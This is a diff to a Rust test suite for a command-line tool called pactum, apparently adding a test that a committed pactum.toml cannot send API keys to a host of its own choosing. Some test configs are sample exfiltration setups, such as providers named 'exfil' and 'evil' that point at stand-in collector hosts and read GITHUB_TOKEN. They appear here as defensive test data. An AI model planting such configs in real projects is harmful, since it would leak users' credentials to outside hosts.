@@ -146,7 +146,7 @@ fn a_panic_beside_the_validate_workers_is_an_internal_error_too() {
 fn out_of_range_numbers_in_pactum_toml_are_findings_not_panics() {
     let p = Project::new();
     p.write("pactum.toml", "[defaults]\ntimeout_s = 1e300\n[retry]\nattempts = 0\nbase_delay_ms = -5\n[project]\ndeprecation_dayz = 1\n");
-    let out = run(&p, &["validate", &p.path("wo").display().to_string(), "--format", "json"]);
+    let out = run(&p, &["validate", "--format", "json"]);
     out.status(1);
     let doc = out.json();
     let config: Vec<&Value> = doc["diagnostics"]
@@ -225,7 +225,7 @@ fn symlinked_folders_are_reported_not_walked() {
             std::fs::remove_dir_all(p.path(folder)).unwrap();
         }
         symlink(outside.path(), &p.path(folder));
-        let out = run(&p, &["validate", &p.path("wo").display().to_string(), "--format", "json"]);
+        let out = run(&p, &["validate", "--format", "json"]);
         out.status(1);
         assert!(!out.stdout.contains("SECRET-LINE-1"), "{folder}: outside content printed:\n{out}");
         let doc = out.json();
@@ -486,7 +486,7 @@ fn unreadable_folders_are_reported_not_skipped() {
     std::fs::write(locked.join("1.0.0.json"), "{}").unwrap();
     std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
     let readable_anyway = std::fs::read_dir(&locked).is_ok(); // root reads everything
-    let out = run(&p, &["validate", &p.path("wo").display().to_string(), "--format", "json"]);
+    let out = run(&p, &["validate", "--format", "json"]);
     std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
     if readable_anyway {
         return;
@@ -799,7 +799,7 @@ fn keys_go_only_over_https_or_to_this_machine() {
     assert_eq!(out.json()["code"], "config_insecure", "{out}");
     // A committed config that reads any variable it likes.
     p.write("pactum.toml", "[providers.exfil]\nkind = \"openai\"\nbase_url = \"https://collector.example/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n");
-    let out = run(&p, &["validate", &p.path("wo").display().to_string(), "--format", "json"]);
+    let out = run(&p, &["validate", "--format", "json"]);
     let doc = out.json();
     let d = doc["diagnostics"]
         .as_array()
@@ -921,4 +921,51 @@ fn two_new_contracts_of_one_id_one_wins_and_nothing_is_orphaned() {
 #[allow(dead_code)]
 fn records(p: &Project) -> Vec<Value> {
     read_records(&p.ledger())
+}
+
+#[test]
+fn a_committed_pactum_toml_cannot_send_the_environments_key_elsewhere() {
+    let server = MockServer::start(vec![MockReply::json(
+        200,
+        &harness::openai_body("{\"label\": \"billing\", \"confidence\": 0.9}", "stop"),
+    )]);
+    let p = Project::new();
+    // The pull request's pactum.toml: its default provider sends the key to its own host.
+    p.config(
+        "[defaults]\nprovider = \"evil\"\n[providers.evil]\nkind = \"openai\"\n\
+         base_url = \"https://collector.invalid/v1\"\nmodel = \"m\"\n\
+         [providers.named]\nkind = \"openai\"\nmodel = \"m\"\napi_key_env = \"SHOP_API_KEY\"\n",
+    );
+    let key = "sk-ci-secret-0123456789";
+    let env = vec![("OPENAI_API_KEY", key.to_string()), ("SHOP_API_KEY", key.to_string())];
+    // A work order that names offline fixtures stays offline, whatever pactum.toml says.
+    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
+    let wo = p.classify_wo("WO-OFFLINE", json!({"provider": {"fixtures": "fx.json"}}));
+    let (out, r) = p.run_json(&wo, &[], &env);
+    out.status(0);
+    assert_eq!(p.records().last().unwrap()["provider"], "scripted", "{r:#}");
+    // One without fixtures goes to pactum.toml's provider, without the key: the refusal
+    // (here: the host does not resolve) and a note say why, and the key is nowhere.
+    let wo = p.classify_wo("WO-ONLINE", json!({}));
+    let (out, r) = p.run_json(&wo, &[], &env);
+    out.status(1);
+    assert!(out.stderr.contains("the API key in OPENAI_API_KEY was not sent"), "{out}");
+    assert!(out.stderr.contains("PACTUM_TRUST_CONFIG=1"), "{out}");
+    assert!(!out.stdout.contains(key) && !out.stderr.contains(key), "{out}");
+    assert_eq!(harness::first_code(&r), "provider_unreachable", "{r:#}");
+    // A key variable that pactum.toml chose, for the public endpoint: withheld too.
+    let wo = p.classify_wo("WO-NAMED", json!({"provider": {"name": "named"}}));
+    let (out, _) = p.run_json(&wo, &[], &env);
+    assert!(out.stderr.contains("the API key in SHOP_API_KEY was not sent"), "{out}");
+    // Where the environment confirms the host (or opts in), the key goes there.
+    let url = format!("{}/v1", server.url());
+    let wo = p.classify_wo("WO-CONFIRMED", json!({"provider": {"name": "evil"}}));
+    let mut confirmed = env.clone();
+    confirmed.push(("OPENAI_BASE_URL", url));
+    let (out, r) = p.run_json(&wo, &[], &confirmed);
+    out.status(0);
+    assert_eq!(r["ok"], true, "{r:#}");
+    let sent = server.requests();
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0].header("authorization"), Some(format!("Bearer {key}").as_str()));
 }
